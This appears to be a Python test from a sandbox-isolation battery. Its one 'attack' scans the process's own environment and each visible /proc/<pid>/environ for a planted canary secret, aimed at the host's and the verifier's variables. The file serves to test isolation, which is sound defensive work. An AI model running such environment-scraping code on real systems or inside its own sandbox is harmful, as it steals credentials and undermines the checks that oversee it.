"""Read the host's and the runner's environment (the host carries a canary secret)."""

from harness import FIND_IN_TEXT, Attack

ENV = FIND_IN_TEXT + r'''
import os
def answer():
    found = _secret_in(repr(dict(os.environ)))
    if found:
        return found
    pids = [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                found = _secret_in(f.read())
        except OSError:
            continue
        if found:
            return found
    return None
'''

ATTACK = Attack(
    name="read_host_env_secrets",
    tags=("secrets",),
    tries="to find the secret in its own environment or any visible process's "
          "/proc/<pid>/environ (the verifier's variables, the host's canary)",
    solution=ENV,
)


def test_alone(battery):
    battery.alone(ATTACK)


def test_in_batch(pool_battery):
    pool_battery.in_batch(ATTACK)
